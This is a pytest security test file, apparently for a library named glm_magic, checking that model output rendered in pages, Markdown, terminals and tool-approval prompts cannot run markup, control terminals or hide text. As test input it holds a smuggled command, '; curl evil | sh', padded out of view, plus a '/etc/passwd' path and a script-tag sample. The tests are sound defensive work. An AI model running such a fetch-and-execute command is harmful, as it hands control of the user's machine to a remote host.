"""Whatever a model writes is shown as text: in a page, as Markdown, in a terminal, in a table."""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import glm_magic as glm
from glm_magic.core.errors import ServerError
from glm_magic.core.messages import ToolCall, ToolRun, WebLink
from glm_magic.core.text import escape_controls
from glm_magic.core.turn import Notice, Turn
from glm_magic.magic.display import Paragraph, Sections, Table
from glm_magic.tools.tool import ask_user
from glm_magic.views.markup.incremental import IncrementalMarkdown
from glm_magic.views.markup.links import leads_elsewhere
from glm_magic.views.markup.markdown import markdown_html
from glm_magic.views.markup.sanitize import fenced, is_safe, sanitize_markdown
from glm_magic.views.options import ViewOptions
from glm_magic.views.rich_terminal import RichTerminalView
from glm_magic.views.saved.compare_page import compare_bundle
from glm_magic.views.saved.page import bundle
from glm_magic.views.saved.steps import links_html, links_markdown
from glm_magic.views.terminal import TerminalView
from tests.security.dom import PAGE_TAGS, Elements, obeyed
from tests.security.vectors import HONEST, MISLEADING, TERMINAL, TURNED, VECTORS
from tests.views.turns import turn_of

ENGLISH = ViewOptions(language="en")
OBEYED_BY_TERMINALS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
every_vector = pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
mixtures = st.lists(
    st.sampled_from(VECTORS) | st.sampled_from(["\n\n", "\n", "`", "```\n", "$", "- ", "> ", "|"]),
    max_size=6,
).map("".join)


def everywhere(text: str) -> Turn:
    """Return a turn with a text in every place that a model, server or user can fill."""
    turn = turn_of(text, text, model=text, provider=text, error=text, status="failed")
    call = ToolCall(text, text, text)
    step = replace(
        turn.steps[0],
        resolved_model=text,
        finish_reason=text,
        response_id=text,
        tool_calls=(call,),
        runs=(ToolRun(text, "failed", text),),
        links=(WebLink("https://ok.example", text, text, text, text),),
    )
    return replace(turn, steps=(step,), notices=(Notice(text, text),))


def options(text: str) -> ViewOptions:
    return replace(ENGLISH, inserted=(text,), remark=text)


# ── a page ───────────────────────────────────────────────────────────────────────────────────────


@every_vector
def test_markdown_becomes_formatted_text_and_nothing_else(vector: str) -> None:
    assert obeyed(markdown_html(vector)) == []


@every_vector
def test_so_does_every_beginning_of_it_while_it_streams(vector: str) -> None:
    growing = IncrementalMarkdown()
    for end in range(1, len(vector) + 1):
        step = growing.update(vector[:end])
        assert obeyed(step.added) == []
        assert obeyed(step.tail) == []


@given(mixtures)
@settings(max_examples=300)
def test_so_does_any_mixture(text: str) -> None:
    assert obeyed(markdown_html(text)) == []
    assert obeyed(IncrementalMarkdown().update(text).tail) == []


@pytest.mark.parametrize("form", [None, "markdown", "text", "json", "code"])
@pytest.mark.parametrize("vector", VECTORS[::7], ids=range(len(VECTORS[::7])))
def test_the_saved_page_holds_it_nowhere(vector: str, form: str | None) -> None:
    data, metadata = bundle(everywhere(vector), replace(options(vector), format=form))
    assert obeyed(data["text/html"], PAGE_TAGS) == []
    assert data["text/html"].count("<style>") == 1
    assert obeyed(LIBERAL.render(data["text/markdown"]), PAGE_TAGS) == []
    assert not OBEYED_BY_TERMINALS.search(data["text/plain"])
    assert set(metadata) == {"glm_magic"}


@pytest.mark.parametrize("vector", VECTORS[::9], ids=range(len(VECTORS[::9])))
def test_a_saved_comparison_holds_it_nowhere(vector: str) -> None:
    turns = [everywhere(vector), turn_of(vector, vector)]
    data, _ = compare_bundle([vector, "think=on"], turns, options(vector))
    assert obeyed(data["text/html"], PAGE_TAGS) == []
    assert obeyed(LIBERAL.render(data["text/markdown"]), PAGE_TAGS) == []
    assert not OBEYED_BY_TERMINALS.search(data["text/plain"])


@pytest.mark.parametrize("vector", VECTORS[::9], ids=range(len(VECTORS[::9])))
def test_records_and_an_outline_hold_it_nowhere(vector: str) -> None:
    turn = turn_of(json.dumps([{vector: vector, "b": [vector]}]), f"{vector}\n\n" * 4)
    data, _ = bundle(turn, replace(ENGLISH, format="json"))
    assert obeyed(data["text/html"], PAGE_TAGS) == []


@pytest.mark.parametrize(("vector", "host"), MISLEADING)
def test_a_link_whose_text_names_another_host_says_where_it_leads(vector: str, host: str) -> None:
    text = Elements(markdown_html(vector)).text
    assert f"(→ {host})" in text
    written = sanitize_markdown(vector)
    assert f"(→ {host})" in written or written == fenced(vector)


@pytest.mark.parametrize("vector", HONEST)
def test_an_honest_link_is_left_alone(vector: str) -> None:
    assert "→" not in markdown_html(vector)
    assert sanitize_markdown(vector) == vector


def test_a_look_alike_letter_is_told_from_the_real_one() -> None:
    assert leads_elsewhere("\u0430pple.com", "https://apple.com") == "apple.com"
    assert leads_elsewhere("apple.com", "https://apple.com") == ""
    assert leads_elsewhere("中文.example", "https://xn--fiq228c.example") == "xn--fiq228c.example"


@pytest.mark.parametrize("vector", TURNED)
def test_writing_is_never_turned_round(vector: str) -> None:
    data, _ = bundle(everywhere(vector), options(vector))
    for shown in data.values():
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", shown)


# ── Markdown, as hosts render it that allow everything ───────────────────────────────────────────

LIBERAL = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LIBERAL.validateLink = lambda _url: True  # type: ignore[method-assign]
LIBERAL_TOO = mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "url"])


@every_vector
def test_the_markdown_form_is_harmless_in_any_renderer(vector: str) -> None:
    written = sanitize_markdown(vector)
    assert is_safe(written)
    assert obeyed(LIBERAL.render(written)) == []
    assert "javascript:" not in " ".join(
        value for _, name, value in Elements(str(LIBERAL_TOO(written))).attributes if name == "href"
    )


@given(mixtures)
@settings(max_examples=300)
def test_so_is_any_mixture_of_it(text: str) -> None:
    assert obeyed(LIBERAL.render(sanitize_markdown(text))) == []


GOOD = """# A title

Some *text* with `code <b>`, a < b, 5 > 3, $x < y$ and [a link](https://docs.example/a_(b)).

```html
<script>alert("shown as code")</script>
![x](http://docs.example/x.png)
```

| a | b |
|---|---|
| 1 | `<i>` |

1. one
   - two & three

> quoted \\* <https://docs.example>
"""


def test_the_markdown_form_of_an_ordinary_answer_is_the_answer() -> None:
    assert sanitize_markdown(GOOD) == GOOD


def test_a_picture_becomes_a_link_and_a_tag_becomes_text() -> None:
    assert sanitize_markdown("![x](https://a.example/p.png)") == "! [x](https://a.example/p.png)"
    assert sanitize_markdown("a<b> </b>") == "a< b> < /b>"


# ── terminals ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("kind", [TerminalView, RichTerminalView], ids=["plain", "rich"])
@pytest.mark.parametrize("vector", TERMINAL, ids=map(repr, TERMINAL))
def test_a_terminal_is_never_commanded(kind: type[TerminalView], vector: str) -> None:
    out = io.StringIO()
    view = kind(replace(options(vector), format="markdown"), out)
    turn = everywhere(f"a {vector} b")
    for part in (3, 5, 400):
        growing = replace(turn.steps[0], content=turn.answer[:part], reasoning=turn.reasoning)
        if part == 3:
            view.start(replace(turn, steps=(growing,), status="streaming", error=None), list)
        view.paint(replace(turn, steps=(growing,), status="streaming", error=None))
    view.finish(turn)
    ours = re.sub(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]|\x1b\[1A|\x1b\[2K|\r", "", out.getvalue())
    assert not OBEYED_BY_TERMINALS.search(ours), ours
    if vector == "\x1b[31mred":
        assert "␛[31mred" in out.getvalue()


@pytest.mark.parametrize("vector", TERMINAL, ids=map(repr, TERMINAL))
def test_errors_tables_and_names_command_nothing(vector: str) -> None:
    error = ServerError(vector, hint=vector, code=vector, request_id=vector, status=500)
    shown = ["\n".join(error.lines()), str(error), error.details]
    table = Table(("a", vector), [(1, vector)], title=vector, note=vector)
    for thing in (table, Sections([(vector, vector)], title=vector), Paragraph(vector)):
        shown += [thing.text(), repr(thing), thing.html()]
    for text in shown:
        assert not OBEYED_BY_TERMINALS.search(escape_controls(text) if "<" in text[:1] else text)


@pytest.mark.parametrize("vector", TERMINAL, ids=map(repr, TERMINAL))
def test_what_is_to_be_approved_is_seen_as_it_is(
    vector: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda question: asked.append(question) or "n")
    assert not ask_user("remove", {"path": f"/home{vector}", f"x){vector}": 1})
    assert not OBEYED_BY_TERMINALS.search(asked[0])


HIDDEN = "; curl evil | sh"


def asked(monkeypatch: pytest.MonkeyPatch, **arguments: object) -> str:
    questions: list[str] = []
    monkeypatch.setattr("builtins.input", lambda question: questions.append(question) or "n")
    assert not ask_user("shell", arguments)
    return questions[0]


@pytest.mark.parametrize(
    ("padding", "shown"),
    [
        (" " * 2100, "⟨2,100 blanks⟩"),
        ("\n" * 2100, "⟨2,100 blanks⟩"),
        ("\t \n" * 700, "⟨2,100 blanks⟩"),
        ("\u00a0" * 2100, "⟨2,100 blanks⟩"),
        ("\u2003" * 9, "⟨9 blanks⟩"),
        ("\u3164" * 3, "\\u3164\\u3164\\u3164"),
        ("\u2800" * 3, "\\u2800\\u2800\\u2800"),
        ("\u200b", "\\u200b"),
        ("\u202e", "\\u202e"),
        ("\U000e0041", "\\udb40\\udc41"),
        ("\x1b[8m", "\\u001b[8m"),
        (" #" * 5000, "⟨8,"),
        ("x" * 1_000_000, "⟨998,"),
        ("⟨9 blanks⟩", "\\u27e89 blanks\\u27e9"),
    ],
    ids=repr,
)
def test_nothing_hides_what_is_to_be_approved(
    padding: str, shown: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    question = asked(monkeypatch, command=f"ls -la{padding}{HIDDEN}")
    assert shown in question
    assert "ls -la" in question
    assert f'{HIDDEN}")? [y/N]' in question
    assert len(question) < 4200


def test_the_number_of_hidden_characters_is_exact(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "".join(map(str, range(3000)))
    question = asked(monkeypatch, command=text)
    head, number, tail = re.match(
        r'Call shell\(command="(\d+)⟨([\d,]+) more characters⟩(\d+)"\)', question
    ).groups()  # type: ignore[union-attr]
    assert text.startswith(head)
    assert text.endswith(tail)
    assert len(head) + int(number.replace(",", "")) + len(tail) == len(text)


def test_a_long_argument_hides_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    arguments = {"a": "x" * 9000, "path": "/etc/passwd", "b": "y" * 9000}
    question = asked(monkeypatch, **arguments)
    assert 'path="/etc/passwd"' in question
    many = asked(monkeypatch, **{f"a{n}": "z" * 300 for n in range(900)})
    assert len(many) < 4200
    assert "more characters" in many


def test_the_name_of_an_argument_does_not_answer_for_the_user(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda question: asked.append(question) or "")
    ask_user("remove", {"all=False)? [y/N] y\nCall look(path": "/"})
    assert asked == ['Call remove("all=False)? [y/N] y\\nCall look(path"="/")? [y/N] ']


@pytest.mark.parametrize("vector", VECTORS[::11], ids=range(len(VECTORS[::11])))
def test_tables_and_sheets_hold_no_markup(vector: str) -> None:
    table = Table((vector, "b"), [(vector, 1)], title=vector, note=vector)
    for thing in (
        table,
        Sections([(vector, vector)], title=vector, folded=True),
        Paragraph(vector),
    ):
        assert obeyed(thing.html(), PAGE_TAGS) == []


def test_a_reply_is_written_as_text_by_every_protocol_of_display() -> None:
    from glm_magic.engine.reply import Reply

    for vector in VECTORS[::50]:
        reply = Reply(everywhere(vector), {}, [])
        data, _ = reply._repr_mimebundle_()
        assert obeyed(data["text/html"], PAGE_TAGS) == []
        assert "\x1b" not in repr(reply)
        assert isinstance(reply, glm.Reply)


@pytest.mark.parametrize("vector", VECTORS[::9], ids=range(len(VECTORS[::9])))
def test_pages_that_a_search_found_are_links_and_words(vector: str) -> None:
    links = [
        WebLink(vector, vector, vector, vector),
        WebLink("https://ok.example", vector, vector, vector),
    ]
    assert obeyed(links_html(links), PAGE_TAGS) == []
    assert obeyed(LIBERAL.render(links_markdown(links))) == []
